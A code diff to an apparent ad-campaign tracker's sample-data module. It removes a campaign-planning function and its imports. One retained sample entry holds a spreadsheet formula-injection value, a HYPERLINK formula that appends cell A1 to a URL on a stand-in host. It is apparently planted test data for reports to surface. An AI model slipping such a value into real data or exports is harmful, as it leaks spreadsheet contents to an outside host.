@@ -1,6 +1,4 @@
 import type { TokenSlot } from '../../api/token-slots.ts';
-import type { Campaign } from '../rotation/choose-page.ts';
-import { pickWeighted, type Random, weightedPicker } from '../rotation/random.ts';
 
 /**
  * The stories in the sample data: what there is to find, and where. They are visible only in the reports.
@@ -34,35 +32,6 @@ export const stories = {
     formula: '=HYPERLINK("https://example.com/?x="&A1,"vpn")',
   },
 } as const;
-
-/** A plan with its campaign, and functions that draw from it. */
-export interface PlannedCampaign {
-  readonly plan: TrafficPlan;
-  readonly campaign: Campaign;
-  readonly tokenValues: ReadonlyMap<string, { readonly slot: TokenSlot; readonly values: readonly string[] }>;
-  readonly drawKeyword: (random: Random) => Word;
-  readonly drawAd: (random: Random) => Word;
-  readonly drawOptionGroup: ((random: Random) => number | undefined) | undefined;
-  /** Visitors choose an option on the page that leads to the offers: in a sequence, on the last level. */
-  readonly lastLevel: number;
-}
-
-export function planCampaign(plan: TrafficPlan, campaigns: ReadonlyMap<number, Campaign>): PlannedCampaign {
-  const campaign = campaigns.get(plan.campaign);
-  if (!campaign) throw new Error(`The sample setup has no campaign ${plan.campaign}.`);
-  const options = plan.options?.map((weight, index) => ({ group: index + 1, weight }));
-  return {
-    plan,
-    campaign,
-    tokenValues: new Map(
-      campaign.tokens.map(({ slot, parameter }) => [parameter, { slot, values: plan.tokens?.[slot] ?? [] }]),
-    ),
-    drawKeyword: weightedPicker(plan.keywords),
-    drawAd: weightedPicker(plan.ads),
-    drawOptionGroup: options && ((random) => pickWeighted(options, ({ weight }) => weight, random)?.group),
-    lastLevel: Math.max(...campaign.pages.filter(({ kind }) => kind === 'landing').map(({ level }) => level)),
-  };
-}
 
 /** How the visitors of a campaign behave, as data. */
 export interface TrafficPlan {
